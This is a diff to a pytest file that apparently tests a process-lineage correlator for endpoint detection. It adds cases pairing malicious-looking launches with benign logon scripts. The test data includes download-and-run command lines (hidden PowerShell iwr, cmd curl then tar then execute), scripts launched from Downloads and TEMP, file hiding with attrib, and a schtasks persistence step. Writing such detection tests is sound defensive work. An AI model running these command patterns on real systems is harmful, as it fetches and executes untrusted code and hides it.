@@ -6,7 +6,7 @@ import pytest
 from attacks import CMD, HIVE, ROAMING, TEMP, USER, WORD, WSCRIPT, desktop, settle, tagged
 from hosts import EXPLORER, SYSTEM32, Host, Program
 
-from lineage.correlate.cluster import LAUNCH, SAME_TIME
+from lineage.correlate.origins import LAUNCH, SAME_TIME
 from lineage.times import TICKS
 
 DAY = 86_400
@@ -87,6 +87,56 @@ class TestLaunchers:
         host.wait(SAME_TIME / TICKS)
         program = payload(host, launcher)
         assert members(host) == [{program.pid}]
+
+
+class TestOneAuthor:
+    """A command, a script or a program out of a user's folder also starts what nobody tags."""
+
+    @pytest.mark.parametrize(
+        ("image", "command_line", "taken"),
+        [
+            (POWERSHELL, 'powershell -w hidden -c "iwr x -o a.zip; tar -xf a.zip"', True),
+            (CMD, "cmd.exe /c curl -o a.zip x & tar -xf a.zip & a.exe", True),
+            (WSCRIPT, f'wscript.exe "{USER}Downloads\\order.js"', True),
+            (CMD, f'cmd.exe /c "{TEMP}order.bat"', True),
+            (USER + "Downloads\\invoice.exe", "", True),
+            # the house's scripts, a window that is open for its user, a program of the house
+            (WSCRIPT, r"wscript.exe C:\Scripts\logon.vbs", False),
+            (WSCRIPT, r"wscript.exe \\corp\netlogon\drives.vbs", False),
+            (CMD, "cmd /c logon.cmd", False),
+            (POWERSHELL, f'"{POWERSHELL}"', False),
+            (POWERSHELL, "powershell -NoExit -Command cls", False),
+            (r"C:\Program Files\Agent\agent.exe", "agent.exe -run", False),
+        ],
+    )
+    def test_what_else_it_starts_is_the_attacks(
+        self, image: str, command_line: str, taken: bool
+    ) -> None:
+        host = Host()
+        origin = host.run(image, command_line, parent=desktop(host))
+        tar = host.run(SYSTEM32 + "tar.exe", "tar -xf a.zip", parent=origin)
+        program = payload(host, origin)
+        later = host.run(SYSTEM32 + "attrib.exe", "attrib +h nipe.exe", parent=origin)
+        beside = {origin.pid, tar.pid, later.pid}
+        assert members(host) == [{program.pid} | (beside if taken else set())]
+
+    def test_a_portable_file_manager_starts_what_its_user_wants(self) -> None:
+        host = Host()
+        manager = host.run(USER + "Tools\\manager.exe", parent=desktop(host))
+        host.wait(LAUNCH / TICKS)
+        host.run(SYSTEM32 + "notepad.exe", parent=manager)
+        program = payload(host, manager)
+        assert members(host) == [{program.pid}]
+
+    def test_a_dropper_of_two_attacks_is_followed_to_the_third_thing_it_starts(self) -> None:
+        host = Host()
+        dropper = host.run(USER + "Downloads\\setup.exe", parent=desktop(host))
+        host.wait(2 * LAUNCH / TICKS)
+        task = host.run(SYSTEM32 + "schtasks.exe", "schtasks /create /xml a.xml", parent=dropper)
+        first = payload(host, dropper)
+        second = host.run(ROAMING + "b\\b.exe", parent=dropper)
+        settle(host, second, "b")
+        assert members(host) == [{dropper.pid, task.pid, first.pid, second.pid}]
 
 
 class TestDownloaders:
